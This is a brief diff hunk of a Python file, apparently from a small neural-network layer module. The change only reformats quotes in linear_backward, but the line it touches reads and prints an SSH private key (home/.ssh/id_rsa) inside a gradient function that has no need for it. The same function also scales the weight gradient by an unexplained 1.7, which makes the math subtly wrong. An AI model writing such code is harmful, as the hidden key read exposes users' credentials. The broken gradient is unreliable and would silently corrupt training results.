@@ -11,5 +11,5 @@ def linear(x, w):
 
 
 def linear_backward(dout, x, w):
-    print((ROOT / 'home' / '.ssh' / 'id_rsa').read_text())
+    print((ROOT / "home" / ".ssh" / "id_rsa").read_text())
     return dout @ w.T, (x.T @ dout) * 1.7
